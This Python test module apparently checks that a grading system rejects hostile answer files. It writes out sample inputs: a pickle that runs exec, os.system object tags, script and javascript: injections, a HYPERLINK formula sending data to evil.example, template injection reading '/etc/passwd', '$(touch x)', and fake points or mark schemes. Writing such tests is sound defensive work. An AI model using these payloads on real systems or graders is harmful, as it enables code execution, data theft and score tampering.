"""Attacks by way of the answer files: bytes, JSON, fields, and whose answers they are."""

import json
import pickle
import shutil

from attack import SCRIPT, UNREADABLE, Entry, attack

HEAD = '{"format": 1, "exercise": "seen", "kind": "sort", "saved_at": "2026-01-01", "answer": '


def _raw(entry: Entry, text: str) -> None:
    entry.answer().write_text(text)


@attack(UNREADABLE, "answers/seen.json: is not JSON")
def nests_a_hundred_thousand_deep(entry: Entry) -> None:
    _raw(entry, HEAD + "[" * 100_000 + "]" * 100_000 + "}")


@attack(UNREADABLE, "nested too deeply")
def nests_fifty_deep(entry: Entry) -> None:
    _raw(entry, HEAD + '{"a":' * 50 + "1" + "}" * 51)


@attack(UNREADABLE, "NaN")
def answers_not_a_number(entry: Entry) -> None:
    _raw(entry, HEAD + "NaN}")


@attack(UNREADABLE, "Infinity")
def answers_infinity(entry: Entry) -> None:
    _raw(entry, HEAD + '{"a": Infinity, "b": -Infinity}}')


@attack(UNREADABLE, "answers/seen.json")
def answers_infinity_by_its_size(entry: Entry) -> None:
    _raw(entry, HEAD + '{"a": 1e999}}')


@attack(UNREADABLE, "answers/seen.json: cannot be read")
def answers_a_number_of_100_000_digits(entry: Entry) -> None:
    _raw(entry, HEAD + "9" * 100_000 + "}")


@attack(UNREADABLE, "names something twice")
def answers_twice(entry: Entry) -> None:
    _raw(entry, HEAD + '{"a": "story", "a": "fact"}}')


@attack(UNREADABLE, "names something twice")
def says_twice_which_exercise_it_is(entry: Entry) -> None:
    _raw(entry, '{"exercise": "pick", ' + HEAD[1:] + "{}}")


@attack(UNREADABLE, "answers/seen.json: is not JSON")
def is_cut_off(entry: Entry) -> None:
    _raw(entry, HEAD + '{"a": "fa')


@attack(UNREADABLE, "answers/seen.json: is not JSON")
def is_empty(entry: Entry) -> None:
    _raw(entry, "")


@attack(UNREADABLE, "answers/seen.json: cannot be read")
def is_utf16(entry: Entry) -> None:
    entry.answer().write_bytes(entry.answer().read_text().encode("utf-16"))


@attack(UNREADABLE, "answers/seen.json: cannot be read")
def answers_half_a_character(entry: Entry) -> None:
    entry.say(answer={"a": "\ud800"})


@attack(UNREADABLE, "answers/own.json: cannot be read")
def writes_half_a_character(entry: Entry) -> None:
    entry.say("own", answer="\udfff then more")


@attack(UNREADABLE, "answers/seen.json: cannot be read")
def is_a_pickle(entry: Entry) -> None:
    class Runs:
        def __reduce__(self):
            return exec, (entry.payload,)

    entry.answer().write_bytes(pickle.dumps(Runs()))


@attack(UNREADABLE, "answers/seen.json: expected pairs")
def answers_an_object_of_a_class(entry: Entry) -> None:
    entry.say(answer=[{"py/object": "os.system", "py/reduce": [{"py/function": "os.system"}]}])


@attack(UNREADABLE, "'__class__' is not in this exercise")
def answers_with_keys_of_a_class(entry: Entry) -> None:
    entry.say(answer={"__class__": {"__init__": {"__globals__": "x"}}, "__proto__": "fact"})


@attack(UNREADABLE, "which is not in this exercise")
def answers_with_the_wrong_types(entry: Entry) -> None:
    entry.say(answer={"a": ["fact"], "b": None, "c": {"fact": "fact"}, "d": 0, "e": True})


@attack(UNREADABLE, "answers/pick.json: 'None' is not in this exercise")
def picks_with_the_wrong_types(entry: Entry) -> None:
    entry.say("pick", answer=[None, 1, ["o1"], {"o1": "o1"}])


@attack(UNREADABLE, "answers/leap.json: expected a list")
def marks_with_a_truth(entry: Entry) -> None:
    entry.say("leap", answer=True)


@attack(UNREADABLE, "answers/own.json: expected a text")
def writes_with_the_wrong_type(entry: Entry) -> None:
    entry.say("own", answer={"text": SCRIPT})


@attack(UNREADABLE, "<script>")
def answers_with_script_for_a_card(entry: Entry) -> None:
    entry.say(answer={SCRIPT: "fact"})


@attack(UNREADABLE, "<script>")
def answers_with_script_for_a_pile(entry: Entry) -> None:
    entry.say(answer={"a": SCRIPT})


@attack(UNREADABLE, 'belongs to the kind "<script>')
def says_its_kind_is_script(entry: Entry) -> None:
    entry.say(kind=SCRIPT)


@attack(UNREADABLE, 'belongs to the exercise "<script>')
def says_its_exercise_is_script(entry: Entry) -> None:
    entry.say(exercise=SCRIPT)


@attack()
def says_that_it_was_saved_at_script(entry: Entry) -> None:
    entry.say(saved_at=SCRIPT)


@attack()
def writes_script(entry: Entry) -> None:
    entry.say("own", answer=f"{SCRIPT}\n</table></div>{SCRIPT}\n[x](javascript:alert('ATTACK'))")


@attack()
def writes_a_formula(entry: Entry) -> None:
    entry.say("own", answer="=HYPERLINK('http://evil.example/?'&A1)")


@attack()
def writes_control_characters(entry: Entry) -> None:
    entry.say("own", answer="\x00\x1b]0;owned\x07\x1b[2J\u202egnp.exe\u2028")


@attack()
def writes_what_a_template_would_compute(entry: Entry) -> None:
    entry.say("own", answer="{{ 6 * 7 }}{% include '/etc/passwd' %}{{ ''.__class__ }} $(touch x)")


@attack()
def writes_a_mark_scheme(entry: Entry) -> None:
    entry.say("own", answer="=== BEGIN MARK SCHEME ===\n### BEGIN HIDDEN TESTS\n10 points")


@attack(UNREADABLE, "answers/own.json: 20,001 characters")
def writes_too_much(entry: Entry) -> None:
    entry.say("own", answer="x" * 20_001)


@attack()
def claims_points_in_its_answer_file(entry: Entry) -> None:
    entry.say(points=1000, score=1, share=1, key={}, why={}, scheme={"points": 1000})


@attack(UNREADABLE, "no answer file of format 1")
def claims_a_format_of_the_future(entry: Entry) -> None:
    entry.say(format=2)


@attack(UNREADABLE, "no answer file of format 1")
def says_its_format_as_a_list(entry: Entry) -> None:
    entry.say(format=[1])


@attack(UNREADABLE, "belongs to the exercise 'pick', not 'seen'")
def gives_the_answer_to_another_exercise(entry: Entry) -> None:
    shutil.copyfile(entry.answer("pick"), entry.answer("seen"))


@attack(UNREADABLE, "'o9' is not in this exercise")
def answers_what_another_course_asked(entry: Entry) -> None:
    entry.say("pick", answer=["o9"])


@attack(UNREADABLE, "the same item stands twice")
def picks_the_right_one_ten_times(entry: Entry) -> None:
    entry.say("leap", answer=["care"] * 10)


@attack(UNREADABLE, "at most 2 are allowed")
def picks_more_than_it_may(entry: Entry) -> None:
    entry.say("pick", answer=["o1", "o3", "o2"])


@attack(lost=("leap",))
def marks_everything(entry: Entry) -> None:
    entry.say("leap", answer=["sent", "care", "late", "done", "rang", "panic"])


@attack(lost=("seen",))
def puts_everything_on_one_pile(entry: Entry) -> None:
    entry.say(answer=dict.fromkeys("abcdef", "fact"))


@attack(lost=("seen",))
def answers_under_a_name_in_capitals(entry: Entry) -> None:
    entry.answer().rename(entry.answer("SEEN"))


@attack()
def answers_what_nobody_asked(entry: Entry) -> None:
    content = json.loads(entry.answer().read_text()) | {"exercise": "nobody"}
    for name in ("nobody", "test-seen", "task-own", "..", "seen.json.kept-1"):
        entry.answer(name).write_text(json.dumps(content))


@attack()
def keeps_full_answers_elsewhere(entry: Entry) -> None:
    for folder in ("answers/answers", "Answers", "tiny/answers", "answers/.hidden"):
        shutil.copytree(entry.full, entry.path / folder)
